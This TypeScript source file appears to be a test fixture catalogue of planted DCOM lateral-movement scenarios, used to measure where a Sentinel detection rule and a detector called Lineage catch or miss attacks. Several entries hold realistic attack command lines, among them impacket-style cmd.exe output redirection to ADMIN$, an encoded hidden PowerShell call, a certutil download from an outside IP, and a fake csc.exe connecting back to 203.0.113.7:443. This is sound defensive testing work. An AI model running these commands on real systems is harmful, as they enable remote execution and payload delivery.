// The catalogue of planted scenarios, as data: DCOM lateral-movement attacks (including the ones the Sentinel rule
// misses by design) and near misses, one per case of ../shared/spec/dcom-rule.md. Each says what the rule as written
// returns if its boot gate passes (`sentinel`) and what Lineage's detection must return (`lineage`); the boot gates
// and hourly windows are applied afterwards from the device's real boots (fleet-truth.ts).
// Long because it is a table: one short entry per case.
import type { Ticks } from '../domain';
import { NETWORK_SERVICE, SYSTEM } from './accounts';
import { binary, variantOf } from './binaries';
import type { DeviceSim, SimProcess } from './device-sim';
import type { ChainSpec, ChildSpec, DeviceHosts } from './plant-chain';
import type { Rng } from './prng';

const S = 10_000_000n; // ticks per second
const MS = 10_000n;

export type Placement = 'booted' | 'never-booted' | 'hour-edge' | 'reboot-after' | 'boot-before';

export interface ScenarioContext {
  rng: Rng;
  deviceIp: string;
  attackerIp: string;
  user: DeviceHosts['user'];
}

export interface Scenario {
  kind: string;
  description: string;
  malicious: boolean;
  placement: Placement;
  sentinel: boolean;
  lineage: boolean;
  /** Fixed sub-second phase of the connection time (ticks past the second), where the rule's outcome depends on it. */
  phase?: bigint;
  chain(ctx: ScenarioContext): ChainSpec;
  /** Follow-up on the same device `delay` after the activation (PID reuse staging). */
  followUp?: { delay: bigint; run(sim: DeviceSim, hosts: DeviceHosts, at: Ticks, comServer: SimProcess): void };
}

const inbound = (remoteIp: string) => ({ remoteIp });
const child = (name: string, commandLine: string, delay: bigint, children?: ChildSpec[]): ChildSpec =>
  ({ delay, image: binary(name), commandLine, children });
const mmc = (ctx: ScenarioContext, delay: bigint) =>
  ({ delay, image: binary('mmc.exe'), commandLine: '"C:\\Windows\\system32\\mmc.exe" -Embedding', account: ctx.user });
const impacketChildren = (): ChildSpec[] => [
  child('cmd.exe', '"C:\\Windows\\System32\\cmd.exe" /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1714982400.52 2>&1', 480n * MS),
  child('cmd.exe', '"C:\\Windows\\System32\\cmd.exe" /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1714982400.52 2>&1', 1600n * MS,
    [child('whoami.exe', 'whoami  /all', 15n * MS)]),
];
const benignMmcChild = (): ChildSpec[] => [child('cmd.exe', 'cmd.exe /c echo chain-shaped', 500n * MS)];

export const SCENARIOS: readonly Scenario[] = [
  // ---- attacks both modes catch ----
  { kind: 'dcom-mmc20', description: 'MMC20.Application: mmc.exe -Embedding runs cmd.exe (impacket dcomexec)', malicious: true,
    placement: 'booted', sentinel: true, lineage: true,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 850n * MS), children: impacketChildren() }) },
  { kind: 'dcom-excel', description: 'Excel.Application: excel.exe /automation -Embedding runs powershell', malicious: true,
    placement: 'booted', sentinel: true, lineage: true,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp),
      activation: { delay: 1200n * MS, image: binary('EXCEL.EXE'), commandLine: '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" /automation -Embedding', account: ctx.user },
      children: [child('powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 2n * S,
        [child('whoami.exe', '"C:\\Windows\\system32\\whoami.exe" /groups', 3n * S)])] }) },
  { kind: 'dcom-outlook', description: 'Outlook.Application: outlook.exe -Embedding runs cmd.exe', malicious: true,
    placement: 'booted', sentinel: true, lineage: true,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp),
      activation: { delay: 400n * MS, image: binary('OUTLOOK.EXE'), commandLine: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" -Embedding', account: ctx.user },
      children: [child('cmd.exe', 'cmd.exe /c net group "Domain Admins" /domain', 900n * MS, [child('net.exe', 'net  group "Domain Admins" /domain', 20n * MS)])] }) },
  { kind: 'dcom-iexplore', description: 'InternetExplorer.Application: iexplore.exe -Embedding runs a payload', malicious: true,
    placement: 'booted', sentinel: true, lineage: true,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp),
      activation: { delay: 460n * MS, image: binary('iexplore.exe'), commandLine: '"C:\\Program Files\\Internet Explorer\\iexplore.exe" -Embedding', account: ctx.user },
      children: [child('notepad.exe', 'c:\\windows\\system32\\notepad.exe', 63n * MS), child('rundll32.exe', 'rundll32.exe C:\\Users\\Public\\msvc.dll,Start', 400n * MS)] }) },
  { kind: 'dcom-renamed-binary', description: 'a COM server under another name and path runs rundll32 and cmd', malicious: true,
    placement: 'booted', sentinel: true, lineage: true,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp),
      activation: { delay: 700n * MS, image: variantOf(binary('mmc.exe'), 'mgmtsvc.exe', 'C:\\ProgramData\\Microsoft', ctx.rng), commandLine: 'C:\\ProgramData\\Microsoft\\mgmtsvc.exe -Embedding', account: ctx.user },
      children: [child('rundll32.exe', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', 300n * MS, [child('cmd.exe', 'cmd.exe /c ipconfig /all', 1n * S)])] }) },
  { kind: 'gap-1.99s-two-boundaries', description: 'real gap 1.99 s, two second boundaries crossed: inside both windows', malicious: true,
    placement: 'booted', sentinel: true, lineage: true, phase: 950n * MS,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 1990n * MS), children: impacketChildren() }) },
  { kind: 'case-variant-hosts', description: 'RPCSS / DcomLaunch command lines and process names in other letter cases', malicious: true,
    placement: 'booted', sentinel: true, lineage: true,
    chain: (ctx) => ({
      connection: { ...inbound(ctx.attackerIp), owner: (sim, hosts, at) => sim.spawn(hosts.services, at - 20n * S, { ...binary('svchost.exe'), fileName: 'SVCHOST.EXE' }, 'C:\\WINDOWS\\system32\\SVCHOST.EXE -k rpcss -p', NETWORK_SERVICE) },
      activation: { ...mmc(ctx, 900n * MS), host: (sim, hosts, at) => sim.spawn(hosts.services, at - 10n * S, { ...binary('svchost.exe'), fileName: 'SvcHost.exe' }, 'svchost.exe -k DCOMLAUNCH -p', SYSTEM) },
      children: impacketChildren() }) },
  // ---- attacks the rule misses by design ----
  { kind: 'dcom-no-boot-in-data', description: 'device booted before the data starts: the rule has no LastBootTime and drops everything', malicious: true,
    placement: 'never-booted', sentinel: true, lineage: true,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 600n * MS), children: impacketChildren() }) },
  { kind: 'dcom-across-hour-edge', description: 'connection and activation in two hourly windows: lost by the scheduled rule', malicious: true,
    placement: 'hour-edge', sentinel: true, lineage: true,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 900n * MS), children: impacketChildren() }) },
  { kind: 'dcom-then-reboot', description: 'device reboots after the attack: the rule only knows the latest boot and drops the earlier activation', malicious: true,
    placement: 'reboot-after', sentinel: true, lineage: true,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 500n * MS), children: impacketChildren() }) },
  { kind: 'dcom-pid-reuse-later', description: 'COM server PID reused later by another DcomLaunch child: the PID-only join attaches its children too', malicious: true,
    placement: 'booted', sentinel: true, lineage: true,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 800n * MS), children: impacketChildren() }),
    followUp: { delay: 600n * S, run: (sim, hosts, at, comServer) => {
      sim.exit(comServer);
      const reused = sim.spawn(hosts.dcomLaunch, at, binary('mmc.exe'), '"C:\\Windows\\system32\\mmc.exe" -Embedding', hosts.user, { createdAt: at, pid: comServer.pid });
      sim.spawn(reused, at + 2n * S, binary('gpupdate.exe'), 'gpupdate.exe /target:computer', hosts.user, { createdAt: at + 2n * S });
    } } },
  { kind: 'dcom-dllhost-unknown-clsid', description: 'a COM surrogate (dllhost) for an unknown class runs cmd: hidden by the name-only allow-list', malicious: true,
    placement: 'booted', sentinel: false, lineage: true,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp),
      activation: { delay: 350n * MS, image: binary('dllhost.exe'), commandLine: 'C:\\Windows\\system32\\DllHost.exe /Processid:{D2E7041B-2927-42FB-8E9F-7CE93B6DC937}', account: ctx.user },
      children: [child('cmd.exe', 'cmd.exe /c powershell -ep bypass -f C:\\Users\\Public\\s.ps1', 700n * MS)] }) },
  { kind: 'dcom-child-name-case', description: 'the children name their parent EXCEL.EXE as excel.exe: the case-sensitive `in` prefilter drops them', malicious: true,
    placement: 'booted', sentinel: false, lineage: true,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp),
      activation: { delay: 1100n * MS, image: binary('EXCEL.EXE'), commandLine: '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" /automation -Embedding', account: ctx.user, fileName: 'EXCEL.EXE' },
      children: [{ ...child('cmd.exe', 'cmd.exe /c certutil -urlcache -f http://203.0.113.9/a.exe a.exe', 2n * S), initiatingFileName: 'excel.exe' }] }) },
  { kind: 'dcom-fake-csc-child', description: 'the only child is named csc.exe but is not the .NET compiler: ignored by name by the rule', malicious: true,
    placement: 'booted', sentinel: false, lineage: true,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 700n * MS),
      children: [{ delay: 900n * MS, image: variantOf(binary('csc.exe'), 'csc.exe', 'C:\\Users\\Public', ctx.rng), commandLine: 'C:\\Users\\Public\\csc.exe -connect 203.0.113.7:443' }] }) },
  // ---- edge cases: the rule alerts, Lineage does not ----
  { kind: 'same-second-activation-first', description: 'activation 0.8 s before the connection in the same second: datetime_diff says 0', malicious: false,
    placement: 'booted', sentinel: true, lineage: false, phase: 900n * MS,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: { ...mmc(ctx, -800n * MS) }, children: benignMmcChild() }) },
  { kind: 'gap-2.5s-two-boundaries', description: 'real gap 2.5 s but only two second boundaries crossed', malicious: false,
    placement: 'booted', sentinel: true, lineage: false, phase: 100n * MS,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 2500n * MS), children: benignMmcChild() }) },
  { kind: 'outbound-on-135', description: 'an outbound ConnectionSuccess row with local port 135, not an inbound connection', malicious: false,
    placement: 'booted', sentinel: true, lineage: false,
    chain: (ctx) => ({ connection: { ...inbound('10.20.0.10'), actionType: 'ConnectionSuccess' }, activation: mmc(ctx, 600n * MS), children: benignMmcChild() }) },
  { kind: 'self-ip-other-form', description: 'the host talking to itself, its address written two ways (::ffff:a.b.c.d vs a.b.c.d)', malicious: false,
    placement: 'booted', sentinel: true, lineage: false,
    chain: (ctx) => ({ connection: { remoteIp: ctx.deviceIp, localIp: `::ffff:${ctx.deviceIp}` }, activation: mmc(ctx, 600n * MS), children: benignMmcChild() }) },
  { kind: 'rpcss-underscore-lookalike', description: 'a look-alike service host `svchost.exe -k rpcss_x` (`_` splits terms, so it `has` rpcss)', malicious: false,
    placement: 'booted', sentinel: true, lineage: false,
    chain: (ctx) => ({ connection: { ...inbound(ctx.attackerIp), owner: (sim, hosts, at) => sim.spawn(hosts.services, at - 30n * S, binary('svchost.exe'), 'C:\\Windows\\system32\\svchost.exe -k rpcss_x', NETWORK_SERVICE) },
      activation: mmc(ctx, 700n * MS), children: benignMmcChild() }) },
  { kind: 'lookalike-svchost-path', description: 'the process that starts the COM server is an svchost.exe outside System32', malicious: false,
    placement: 'booted', sentinel: true, lineage: false,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp),
      activation: { ...mmc(ctx, 700n * MS), host: (sim, hosts, at) => sim.spawn(hosts.explorer ?? hosts.services, at - 60n * S, variantOf(binary('svchost.exe'), 'svchost.exe', 'C:\\Users\\Public', sim.rngFor('lookalike')), 'svchost.exe -k DcomLaunch -p', ctx.user) },
      children: benignMmcChild() }) },
  { kind: 'listening-action-lowercase', description: 'a listening-socket row whose ActionType is in other letter case (`!=` is case-sensitive)', malicious: false,
    placement: 'booted', sentinel: true, lineage: false,
    chain: (ctx) => ({ connection: { remoteIp: '', localIp: '0.0.0.0', remotePort: 0, actionType: 'listeningconnectioncreated' }, activation: mmc(ctx, 600n * MS), children: benignMmcChild() }) },
  // ---- near misses: neither alerts ----
  { kind: 'gap-over-window', description: 'activation 3.5 s after the connection', malicious: false,
    placement: 'booted', sentinel: false, lineage: false,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 3500n * MS), children: benignMmcChild() }) },
  { kind: 'gap-2.001s-three-boundaries', description: 'real gap 2.001 s crossing three second boundaries', malicious: false,
    placement: 'booted', sentinel: false, lineage: false, phase: 999n * MS,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 2001n * MS), children: benignMmcChild() }) },
  { kind: 'activation-before-connection', description: 'activation 1.5 s before the connection', malicious: false,
    placement: 'booted', sentinel: false, lineage: false,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, -1500n * MS), children: benignMmcChild() }) },
  { kind: 'within-5min-after-boot', description: 'a chain 3 minutes after the device booted', malicious: false,
    placement: 'boot-before', sentinel: false, lineage: false,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 600n * MS), children: benignMmcChild() }) },
  { kind: 'loopback', description: 'connection from 127.0.0.1 to 127.0.0.1', malicious: false,
    placement: 'booted', sentinel: false, lineage: false,
    chain: (ctx) => ({ connection: { remoteIp: '127.0.0.1', localIp: '127.0.0.1' }, activation: mmc(ctx, 600n * MS), children: benignMmcChild() }) },
  { kind: 'self-ip', description: 'connection from the host\'s own address', malicious: false,
    placement: 'booted', sentinel: false, lineage: false,
    chain: (ctx) => ({ connection: { remoteIp: ctx.deviceIp }, activation: mmc(ctx, 600n * MS), children: benignMmcChild() }) },
  { kind: 'listening-socket', description: 'RPCSS opening its listening socket on 135', malicious: false,
    placement: 'booted', sentinel: false, lineage: false,
    chain: (ctx) => ({ connection: { remoteIp: '', localIp: '0.0.0.0', remotePort: 0, actionType: 'ListeningConnectionCreated' }, activation: mmc(ctx, 600n * MS), children: benignMmcChild() }) },
  { kind: 'allow-listed-wmiprvse', description: 'remote WMI from the management server: WmiPrvSE runs a command', malicious: false,
    placement: 'booted', sentinel: false, lineage: false,
    chain: () => ({ connection: inbound('10.20.0.11'),
      activation: { delay: 700n * MS, image: binary('WmiPrvSE.exe'), commandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', account: NETWORK_SERVICE },
      children: [child('cmd.exe', 'cmd.exe /c gpupdate /force', 500n * MS)] }) },
  { kind: 'allow-listed-dllhost-clsid', description: 'a COM surrogate for a known Windows class (thumbnail cache) with a child', malicious: false,
    placement: 'booted', sentinel: false, lineage: false,
    chain: (ctx) => ({ connection: inbound('10.20.0.11'),
      activation: { delay: 500n * MS, image: binary('dllhost.exe'), commandLine: 'C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}', account: ctx.user },
      children: [child('conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 200n * MS)] }) },
  { kind: 'only-csc-child', description: 'the COM server\'s only child is the .NET C# compiler', malicious: false,
    placement: 'booted', sentinel: false, lineage: false,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 700n * MS),
      children: [child('csc.exe', '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Users\\x\\AppData\\Local\\Temp\\a.cmdline"', 900n * MS)] }) },
  { kind: 'no-child', description: 'a COM server activated after an inbound connection that starts nothing', malicious: false,
    placement: 'booted', sentinel: false, lineage: false,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: mmc(ctx, 700n * MS), children: [] }) },
  { kind: 'rpcssx-lookalike', description: 'a look-alike service host `svchost.exe -k rpcssx` accepts the connection', malicious: false,
    placement: 'booted', sentinel: false, lineage: false,
    chain: (ctx) => ({ connection: { ...inbound(ctx.attackerIp), owner: (sim, hosts, at) => sim.spawn(hosts.services, at - 30n * S, binary('svchost.exe'), 'C:\\Windows\\system32\\svchost.exe -k rpcssx', NETWORK_SERVICE) },
      activation: mmc(ctx, 700n * MS), children: benignMmcChild() }) },
  { kind: 'connection-without-activation', description: 'an inbound RPC connection followed by nothing (its activation happens on another device)', malicious: false,
    placement: 'booted', sentinel: false, lineage: false,
    chain: (ctx) => ({ connection: inbound(ctx.attackerIp), activation: null, children: [] }) },
];

export const ATTACK_KINDS = SCENARIOS.filter((s) => s.malicious).map((s) => s.kind);
export const NEAR_MISS_KINDS = SCENARIOS.filter((s) => !s.malicious).map((s) => s.kind);
